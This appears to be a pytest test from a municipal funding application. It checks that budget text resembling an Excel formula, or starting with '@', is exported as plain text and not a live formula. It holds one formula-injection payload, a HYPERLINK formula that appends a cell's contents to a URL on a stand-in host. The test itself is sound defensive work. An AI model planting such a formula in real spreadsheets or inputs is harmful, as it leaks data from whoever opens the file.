"""The money cycle's documents as the people who open them meet them: text from the application
reads as written, whatever characters it holds."""

from io import BytesIO

from openpyxl import load_workbook

from samordna.core.permissions import Role
from samordna.funding.tests.factories import add_line, running_intervention

FORMULA = '=HYPERLINK("https://example.org/?d="&A1,"Öppna")'


def test_budget_text_that_looks_like_a_formula_stays_text_in_the_excel(tenant):
    intervention = running_intervention(tenant)
    add_line(tenant, intervention, tenant.kommun, 500, year=2023, description=FORMULA)
    tenant.kommun.name = "@Kommunen"
    tenant.kommun.save()
    response = tenant.client(Role.AUDITOR).get(
        f"/finansiering/insats/{intervention.pk}/budgetuppfoljning.xlsx"
    )
    cells = [
        cell
        for sheet in load_workbook(BytesIO(response.content))
        for row in sheet.rows
        for cell in row
    ]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells}
    assert FORMULA in texts and "@Kommunen" in texts
